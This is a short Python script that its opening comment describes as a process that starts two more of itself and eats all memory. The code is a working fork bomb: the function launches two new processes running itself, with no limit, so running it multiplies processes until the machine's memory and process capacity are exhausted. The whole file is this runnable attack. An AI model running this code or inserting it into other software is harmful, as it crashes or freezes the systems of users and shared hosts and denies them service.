# A process that starts two more of itself: without a limit it never ends and eats all memory.
import multiprocessing


def grow():
    for _ in range(2):
        multiprocessing.Process(target=grow).start()


if __name__ == "__main__":
    grow()
